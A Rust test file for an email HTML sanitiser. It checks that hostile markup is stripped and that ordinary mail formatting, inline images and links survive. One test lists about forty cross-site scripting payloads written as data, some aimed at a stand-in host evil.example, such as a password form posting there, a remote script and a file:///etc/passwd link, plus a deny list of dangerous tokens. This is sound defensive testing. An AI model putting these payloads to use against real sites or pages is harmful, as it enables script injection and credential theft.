//! HTML of strangers: nothing that runs, loads, submits or covers comes through; what people wrote does.

use mailspan::mail::html::{charset, content_ids, from_text, sanitise, text_of_any, without_remote_images};
use mailspan::mail::html_text::to_text;

fn clean(html: &str) -> String {
    sanitise(html).unwrap()
}

#[test]
fn what_attacks_is_gone() {
    for attack in [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img/src='cid:x'/onload=alert(1)>",
        "<body onload=alert(1)>x</body>",
        "<svg onload=alert(1)><animate attributeName=href values=javascript:alert(1) /></svg>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href=' java\nscript:alert(1)'>x</a>",
        "<a href='&#106;avascript:alert(1)'>x</a>",
        "<a href='vbscript:x'>x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<a href='file:///etc/passwd'>x</a>",
        "<a href='//evil.example'>x</a>",
        "<img src='data:text/html;base64,PHNjcmlwdD4='>",
        "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
        "<iframe src='https://evil.example'></iframe>",
        "<object data='https://evil.example'></object>",
        "<embed src='https://evil.example'>",
        "<form action='https://evil.example'><input name=password><button>x</button></form>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<base href='https://evil.example'>",
        "<link rel=stylesheet href='https://evil.example'>",
        "<style>@import 'https://evil.example'; *{background:url(https://evil.example)}</style>",
        "<div style='background:url(https://evil.example)'>x</div>",
        "<div style='background:u\\72l(https://evil.example)'>x</div>",
        "<div style='width:expression(alert(1))'>x</div>",
        "<div style='position:fixed;top:0;left:0;z-index:9'>x</div>",
        "<table background='https://evil.example'><tr><td background='https://evil.example'>x</td></tr></table>",
        "<video src='https://evil.example' autoplay></video>",
        "<a href='https://x' target=_top onclick=alert(1) ping='https://evil.example'>x</a>",
        "<!--[if mso]><script>alert(1)</script><![endif]-->",
        "<xmp><script>alert(1)</script></xmp>",
        "<textarea></textarea><script>alert(1)</script>",
        "<template><script>alert(1)</script></template>",
        "<p id=x class=y>x</p>",
    ] {
        let clean = clean(attack).to_lowercase();
        for bad in [
            "script",
            "evil.example\"",
            "onerror",
            "onload",
            "onclick",
            "url(",
            "expression",
            "position",
            "<style",
            "<form",
            "<input",
            "<meta",
            "<base",
            "<link",
            "<iframe",
            "<object",
            "<embed",
            "<svg",
            "<math",
            "javascript",
            "vbscript",
            "file:",
            "data:",
            "http-equiv",
            "target=",
            "ping=",
            "class=",
            "id=",
            "<!--",
            "<video",
            "background",
        ] {
            assert!(!clean.contains(bad), "{attack} became {clean}");
        }
        assert_eq!(sanitise(&clean).unwrap().to_lowercase(), clean, "what is clean stays as it is");
    }
}

#[test]
fn what_people_wrote_stays() {
    for (html, expected) in [
        ("<p>Hello <b>world</b></p>", "<p>Hello <b>world</b></p>"),
        ("<a href=\"mailto:a@b.de\">x</a>", "<a href=\"mailto:a@b.de\" rel=\"noopener noreferrer nofollow\">x</a>"),
        ("<a href=\"TEL:+49123\">x</a>", "<a href=\"TEL:+49123\" rel=\"noopener noreferrer nofollow\">x</a>"),
        ("<img src=\"cid:a@b\" alt=\"x\">", "<img src=\"cid:a@b\" alt=\"x\">"),
        ("<img src=\"https://x.de/a.png\">", "<img src=\"https://x.de/a.png\">"),
        ("<img src=\"data:image/png;base64,AA==\">", "<img src=\"data:image/png;base64,AA==\">"),
        ("<p style=\"color:red;position:absolute\">x</p>", "<p style=\"color:red\">x</p>"),
        ("<o:p>office</o:p>", "office"),
        ("<td>stray</td>", "stray"),
        ("<p>unclosed", "<p>unclosed</p>"),
        ("1 < 2 & 3", "1 &lt; 2 &amp; 3"),
    ] {
        assert_eq!(clean(html), expected);
    }
    let table = "<table border=\"1\"><tbody><tr><td colspan=\"2\" align=\"left\">x</td></tr></tbody></table>";
    assert_eq!(clean(table), table);
}

#[test]
fn a_long_newsletter_is_affordable_and_a_trap_is_not() {
    let row = "<tr><td style=\"padding:3px\"><font color=\"red\"><a href=\"https://x.de\"><b>offer</b></a></font><br><img src=\"cid:x\"></td></tr>";
    let nested =
        format!("{}{}{}", "<div><table><tr><td>".repeat(20), row.repeat(4000), "</td></tr></table></div>".repeat(20));
    assert!(sanitise(&nested).is_some());
    assert!(sanitise(&"<p>unclosed paragraph<br>".repeat(20_000)).is_some());
    assert!(sanitise(&"<div>".repeat(100_000)).is_none());
    let unclosed: String = (0..5_000).map(|it| format!("<b title={it}>")).collect();
    assert!(sanitise(&format!("{unclosed}{}", "<p>".repeat(10_000))).is_none());
    let quoted = "<font color=red>".repeat(5) + &"<div>x</div>".repeat(20_000);
    assert!(sanitise(&quoted).is_some(), "a long answer in an answer in an answer");
    let unclosed: String = (0..400).map(|it| format!("<b title={it}>")).collect();
    assert!(sanitise(&format!("{unclosed}{}", "<p>".repeat(1_000))).is_none());
    let hidden: String = (0..5_000).map(|it| format!("<b title={it}><object></b></object>")).collect();
    assert!(sanitise(&format!("{hidden}{}", "<p>".repeat(10_000))).is_none());
}

#[test]
fn html_that_cannot_be_made_safe_still_gives_its_text() {
    assert!(text_of_any(&format!("{}still text", "<div>".repeat(100_000))).contains("still text"));
    assert_eq!(to_text(&from_text("a < b\nc & d")), "a < b\nc & d");
}

#[test]
fn remote_images_can_be_left_out_and_nothing_else_with_them() {
    for (html, expected) in [
        ("<p>a<img src=\"https://x.de/pixel.gif\" width=\"1\">b</p>", "<p>ab</p>"),
        ("<img alt=\"A &quot;chart&quot; &lt;\" src=\"http://x.de/c.png\">", "<img alt=\"A &quot;chart&quot; &lt;\">"),
        ("<img src=\"cid:a@b\" alt=\"x\">", "<img src=\"cid:a@b\" alt=\"x\">"),
        ("<img src=\"data:image/png;base64,AA==\">", "<img src=\"data:image/png;base64,AA==\">"),
        (
            "<a href=\"https://x.de\"><img src=\"https://x.de/a.png\"></a>",
            "<a href=\"https://x.de\" rel=\"noopener noreferrer nofollow\"></a>",
        ),
        ("<img src=\" HTTPS://x.de/a.png\">1 &lt; 2", "1 &lt; 2"),
        ("<img alt=\"no source\">", "<img alt=\"no source\">"),
    ] {
        let without = without_remote_images(&clean(html));
        assert_eq!(without, expected);
        assert_eq!(sanitise(&without).unwrap(), without, "it is as safe as before");
    }
}

#[test]
fn references_and_charsets_are_found_in_html() {
    let ids = content_ids("<img src=\"cid:a@b\"><img src=CID:c%40d><td style=\"x:url(cid:e)\">");
    assert_eq!(ids, ["a@b", "c@d", "e"].map(String::from).into());
    for (html, expected) in [
        ("<meta charset=\"gb2312\">", Some("gb2312")),
        ("<meta content='text/html; charset=koi8-r'>", Some("koi8-r")),
        ("<p>none</p>", None),
    ] {
        assert_eq!(charset(html.as_bytes()), expected);
    }
}

/// The tags of sanitised HTML: a `<` that stands in its text is always written as an entity.
fn tags(clean: &str) -> Vec<(String, Vec<(String, String)>)> {
    let pattern = regex::Regex::new(r#"<(/?)([a-z0-9]+)((?: [a-z]+="[^"]*")*)>"#).unwrap();
    let attribute = regex::Regex::new(r#" ([a-z]+)="([^"]*)""#).unwrap();
    let found: Vec<_> = pattern.captures_iter(clean).collect();
    assert_eq!(found.len(), clean.matches('<').count(), "{clean}");
    let pairs = |it: &str| attribute.captures_iter(it).map(|it| (it[1].to_owned(), it[2].to_owned())).collect();
    found.iter().map(|it| (it[2].to_owned(), pairs(&it[3]))).collect()
}

proptest::proptest! {
    #[test]
    fn any_html_comes_out_without_anything_that_runs(
        html in "(<|>|/|\"|'| |=|script|img|src|href|onerror|style|javascript:|table|td|svg|math|b|a|p|<!--|-->|&#x3c;|\\PC){0,60}"
    ) {
        let clean = clean(&html);
        for (tag, attributes) in tags(&clean) {
            // Any other tag of one letter is harmless too, and chance writes some.
            let is_expected = tag.len() == 1 || ["img", "table", "tbody", "tr", "td"].contains(&tag.as_str());
            proptest::prop_assert!(is_expected, "{} became {}", html, clean);
            for (name, value) in attributes {
                proptest::prop_assert!(["src", "href", "style", "rel"].contains(&name.as_str()), "{} became {}", html, clean);
                proptest::prop_assert!(!value.to_lowercase().contains("javascript:"), "{} became {}", html, clean);
            }
        }
        let _ = to_text(&clean);
        proptest::prop_assert_eq!(sanitise(&clean).unwrap(), clean);
    }
}
